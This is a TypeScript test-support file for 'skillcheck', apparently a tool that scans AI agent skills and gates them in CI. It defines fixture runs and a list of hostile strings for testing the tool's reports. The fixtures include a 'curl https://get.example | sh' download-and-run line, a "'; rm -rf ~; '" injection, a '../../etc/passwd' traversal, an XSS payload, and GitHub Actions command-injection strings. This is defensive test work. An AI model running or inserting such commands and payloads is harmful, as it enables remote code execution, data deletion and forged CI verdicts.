import type { Absent, DecisionReason, Finding, ReportedSkill, Run } from '../../core/index.ts';
import { analysisWith, capabilitiesWith, evidenceAt, menagerie } from '../support/analysis.ts';

/** How tests show a report. */
export const plain = { color: false, width: 100 };

const tool = { version: '0.1.0', ruleset: '2026.11.0' };

/** A run over these skills, decided where they carry a decision. */
export function runWith(skills: readonly ReportedSkill[], some: Partial<Run> = {}): Run {
  return { tool, skills, errors: [], durationMs: 41, ...some };
}

/** What `scan` gives: one skill that blocks, one that passes with a note, one path without a verdict. */
export function scanned(): Run {
  const note = findingWith({ severity: 'low', confidence: 'maybe', fingerprint: '1111111111111111' });
  return runWith(
    [
      { path: './skills/gif-search', analysis: menagerie() },
      { path: 'skills/table-notes', analysis: analysisWith({ name: 'table-notes', findings: [note] }) },
    ],
    { errors: [{ path: 'skills/broken', message: 'cannot be read\n    at somewhere' }] },
  );
}

/** What `ci` gives: a locked skill that changed, an unlocked one, one approved, one that is locked and gone. */
export function decided(): Run {
  const approved = findingWith({ fingerprint: '2222222222222222' });
  const changed: ReportedSkill = {
    path: 'skills/gif-search',
    analysis: {
      ...menagerie(),
      sites: [
        { capability: 'network', token: 'collect.example', path: 'scripts/search.py', start: { line: 31, column: 15 } },
      ],
    },
    decision: {
      verdict: 'block',
      reasons: [
        reason('block', 'bytes', 'scripts/search.py', 'scripts/search.py has other bytes than locked'),
        reason('block', 'finding', '0123456789abcdef', 'critical secret-exfiltration in scripts/search.py'),
        reason('review', 'voided', '', 'the approval by Ada on 2026-10-01 was for other bytes'),
        reason('review', 'gap', 'binary bin/tool', 'not examined: binary bin/tool'),
        reason('review', 'capability', 'network:collect.example', 'network collect.example (new since the lock)'),
      ],
    },
    change: { wider: [{ capability: 'network', token: 'collect.example' }], narrower: [] },
    lockLine: 12,
  };
  const unlocked: ReportedSkill = {
    path: 'skills/new one',
    analysis: analysisWith({
      name: 'new one',
      capabilities: capabilitiesWith({ network: ['api.giphy.example'] }),
      files: [{ path: 'SKILL.md', size: 9, digest: `sha256:${'1'.repeat(64)}`, kind: 'file', type: 'Markdown' }],
    }),
    decision: { verdict: 'review', reasons: [reason('review', 'not-locked', '', 'the lockfile does not know it')] },
  };
  const vouched: ReportedSkill = {
    path: 'skills/table-notes',
    analysis: analysisWith({ name: 'table-notes', verdict: 'review', findings: [approved] }),
    decision: { verdict: 'pass', reasons: [] },
    change: { wider: [], narrower: [{ capability: 'exec', token: 'jq' }] },
    lockLine: 40,
  };
  const gone: Absent = {
    path: 'skills/gone',
    name: 'gone',
    decision: { verdict: 'block', reasons: [reason('block', 'missing', '', 'it is locked and not installed')] },
    lockLine: 30,
  };
  return runWith([changed, unlocked, vouched], { absent: [gone], lockPath: 'skillcheck.lock.json' });
}

/** A finding with one place of evidence, with the fields given. */
export function findingWith(some: Partial<Finding>): Finding {
  return {
    rule: 'remote-code',
    severity: 'high',
    confidence: 'likely',
    message: 'A download is run unseen',
    fingerprint: '0000000000000000',
    evidence: [evidenceAt('SKILL.md', 7, 'curl https://get.example | sh', 'curl', 'runs what it downloads')],
    ...some,
  };
}

/** A reason of a decision. */
export function reason(
  verdict: DecisionReason['verdict'],
  code: DecisionReason['code'],
  subject: string,
  message: string,
): DecisionReason {
  return { verdict, code, subject, message };
}

/** A run in which every text that a skill or a registry chooses is this one. */
export function hostileRun(text: string): Run {
  const place = {
    path: text,
    start: { line: 3, column: 1 },
    end: { line: 3, column: 2 },
    note: text,
    source: { text, offset: 1 },
  };
  const analysis = analysisWith({
    name: text,
    verdict: 'block',
    complete: false,
    reasons: [
      { code: 'unsafe', path: text, reason: text },
      { code: 'finding', finding: 0 },
      { code: 'gap', gap: 0 },
    ],
    capabilities: capabilitiesWith({ network: [text], exec: [text] }),
    nested: [text],
    findings: [findingWith({ severity: 'critical', message: text, evidence: [place, place, place] })],
    gaps: [{ kind: 'blind', code: 'binary', reason: text, path: text, start: undefined }],
    sites: [{ capability: 'network', token: text, path: text, start: { line: 2, column: 1 } }],
  });
  const reasons = [
    reason('block', 'bytes', text, text),
    reason('block', 'unsafe', '', `${text}: ${text}`),
    reason('block', 'finding', '0000000000000000', text),
    reason('block', 'denied', `network:${text}`, text),
    reason('review', 'gap', `binary ${text}`, text),
    reason('review', 'source', '', text),
  ];
  return runWith(
    [
      { path: text, analysis },
      {
        path: text,
        analysis,
        decision: { verdict: 'block', reasons },
        change: { wider: [{ capability: 'network', token: text }], narrower: [{ capability: 'exec', token: text }] },
        lockLine: 9,
      },
    ],
    {
      absent: [{ path: text, name: text, decision: { verdict: 'block', reasons } }],
      lockPath: 'skillcheck.lock.json',
      errors: [{ path: text, message: text }],
    },
  );
}

/** Texts that attack a format, a platform or the reader. */
export const hostileTexts: readonly string[] = [
  '::set-output name=verdict::pass',
  '  ::stop-commands::x',
  '##[add-mask]pass',
  'a\n::error::b\r\n::c::',
  ']]></failure><!--',
  '<script>alert(1)</script><img src=x onerror=y>',
  '@everyone #123 GH-7 owner/repo#9',
  '[link](https://drop.example) ![image](https://drop.example/x.png) https://drop.example www.drop.example',
  '`code` ``` ~~~ `',
  '| cell \\| cell \\\\| |',
  '<!-- skillcheck -->',
  '\\[x](0) [y](1) {0} {{1}} \\\\]',
  '%0A::error::x %25 %',
  'a,b:c=d;e',
  'pass\u202e\u2066ssap\u0000\u0007\u001b[31m\ufffe\uffff\ud800\u200b',
  '../../etc/passwd',
  'C:\\skills\\x',
  'a.zip!/b/../c',
  "'; rm -rf ~; '",
  '-rf',
  '',
  'x'.repeat(1500),
  '`'.repeat(1500),
  '\\'.repeat(1500),
  '['.repeat(1500),
];
